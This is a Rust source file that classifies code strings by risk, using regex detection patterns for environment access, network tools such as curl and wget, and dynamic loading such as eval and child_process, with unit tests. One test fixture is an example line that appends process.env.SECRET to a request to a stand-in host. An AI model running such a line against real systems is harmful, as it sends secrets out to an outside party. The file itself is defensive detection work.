//! Pattern-based risk classification for legacy flat-code execution.
//!
//! This exists only for the single-phase compatibility path. It looks for
//! environment access, network reach, and dynamic module loading; code that
//! could observe the environment runs with a reduced environment and its
//! output is redacted before being returned.

use std::sync::LazyLock;

use regex::Regex;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum RiskLevel {
    Low,
    Medium,
    High,
}

impl RiskLevel {
    pub fn as_str(&self) -> &'static str {
        match self {
            RiskLevel::Low => "low",
            RiskLevel::Medium => "medium",
            RiskLevel::High => "high",
        }
    }
}

static ENV_ACCESS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"process\.env|os\.environ|\bgetenv\s*\(|std::env|Deno\.env").unwrap()
});

static NETWORK_ACCESS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"require\s*\(\s*['"](https?|net|dgram|tls)['"]\s*\)|\bfetch\s*\(|XMLHttpRequest|\baxios\b|\bcurl\b|\bwget\b"#,
    )
    .unwrap()
});

static DYNAMIC_LOAD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"require\s*\(\s*[^'")]|\beval\s*\(|\bimport\s*\(|child_process|Function\s*\("#)
        .unwrap()
});

/// Classify a flat code string by the access patterns it contains.
pub fn classify(code: &str) -> RiskLevel {
    let env = ENV_ACCESS.is_match(code);
    let network = NETWORK_ACCESS.is_match(code);
    let dynamic = DYNAMIC_LOAD.is_match(code);

    if env {
        // code that can read the environment may reach credentials
        RiskLevel::High
    } else if network || dynamic {
        RiskLevel::Medium
    } else {
        RiskLevel::Low
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_plain_code_is_low() {
        assert_eq!(classify("const x = 1 + 1; console.log(x);"), RiskLevel::Low);
    }

    #[test]
    fn test_env_access_is_high() {
        assert_eq!(classify("console.log(process.env.HOME)"), RiskLevel::High);
        assert_eq!(classify("print(os.environ['KEY'])"), RiskLevel::High);
    }

    #[test]
    fn test_network_access_is_medium() {
        assert_eq!(
            classify("const r = await fetch('https://example.com');"),
            RiskLevel::Medium
        );
        assert_eq!(
            classify("const https = require('https');"),
            RiskLevel::Medium
        );
    }

    #[test]
    fn test_dynamic_load_is_medium() {
        assert_eq!(classify("const m = require(moduleName);"), RiskLevel::Medium);
        assert_eq!(classify("eval(payload)"), RiskLevel::Medium);
        assert_eq!(
            classify("const cp = require('child_process');"),
            RiskLevel::Medium
        );
    }

    #[test]
    fn test_env_plus_network_stays_high() {
        assert_eq!(
            classify("fetch('https://x.test?k=' + process.env.SECRET)"),
            RiskLevel::High
        );
    }

    #[test]
    fn test_static_require_is_not_dynamic() {
        assert_eq!(classify("const fs = require('fs');"), RiskLevel::Low);
    }
}
